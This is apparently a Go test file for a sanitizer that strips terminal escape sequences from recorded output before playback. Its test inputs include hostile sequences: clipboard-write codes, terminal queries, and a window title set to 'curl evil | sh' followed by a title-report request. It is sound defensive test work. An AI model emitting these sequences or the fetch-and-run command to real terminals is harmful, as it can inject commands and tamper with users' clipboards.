package recording

import (
	"bytes"
	"testing"
)

func TestHarmless(t *testing.T) {
	for name, c := range map[string]struct{ in, want string }{
		"text and colours":     {"a\x1b[1;31mü\x1b[0m\r\n\t\x1b[2J\x1b[H\x1b[?1049h\x1b(B\x1b7\x1b8\x1bM", "a\x1b[1;31mü\x1b[0m\r\n\t\x1b[2J\x1b[H\x1b[?1049h\x1b(B\x1b7\x1b8\x1bM"},
		"what are you":         {"a\x1b[cb\x1b[>0cc\x1bZd\x05e\x1b[>q", "abcde"},
		"where is the cursor":  {"a\x1b[6nb\x1b[?6nc", "abc"},
		"the clipboard":        {"a\x1b]52;c;cm0gLXJm\x07b", "ab"},
		"a title":              {"a\x1b]0;curl evil | sh\x1b\\b\x1b[21tc", "abc"},
		"strings of control":   {"a\x1bP$qm\x1b\\b\x1b_x\x1b\\c\x1b^y\x1b\\d", "abcd"},
		"a mode":               {"a\x1b[?1$pb\x1b[!pc", "ab\x1b[!pc"},
		"keys":                 {"a\x1b[?ub\x1b[uc\x1b[>1ud", "ab\x1b[ucd"},
		"a string without end": {"a\x1b]52;c;", "a"},
		"begun anew":           {"a\x1b[1\x1b[6nb", "ab"},
		"in eight bits":        {"a\u009b6nb\u009d0;t\u0007c\u009b1mdé\u00a0", "abc\x1b[1mdé\u00a0"},
		"controls within":      {"a\x1b\x05b\x1b[6\x05nc\x1b(\x05d", "abcd"},
		"a string broken off":  {"a\x1b]0;t\x1b[6nb\x1b]0;t\x1b[1mc\x1bPx\x18d\x1b]0;\x1b]52;c;x\x07e\x1b[\x18f", "ab\x1b[1mcdef"},
		"escape after escape":  {"a\x1b\x1b[6nb", "ab"},
	} {
		for size := 1; size <= len(c.in); size++ {
			var h Harmless
			var got []byte
			for rest := []byte(c.in); len(rest) > 0; {
				n := min(size, len(rest))
				got = h.Append(got, rest[:n])
				rest = rest[n:]
			}
			if string(got) != c.want {
				t.Errorf("%s in pieces of %d: %q, want %q", name, size, got, c.want)
				break
			}
		}
	}
}

func FuzzHarmless(f *testing.F) {
	f.Add([]byte("a\x1b[6n\x1b]0;x\x07\x1bP\x1b\\\x1b[?1$p"))
	f.Fuzz(func(t *testing.T, in []byte) {
		var one, again Harmless
		got := one.Append(nil, in)
		if twice := again.Append(nil, got); !bytes.Equal(twice, got) {
			t.Errorf("%q becomes %q, and that %q", in, got, twice)
		}
		for _, asks := range []string{"\x1b[6n", "\x1b[c", "\x1b]", "\x1bP", "\x05"} {
			if bytes.Contains(got, []byte(asks)) {
				t.Errorf("%q lets %q pass", in, asks)
			}
		}
	})
}
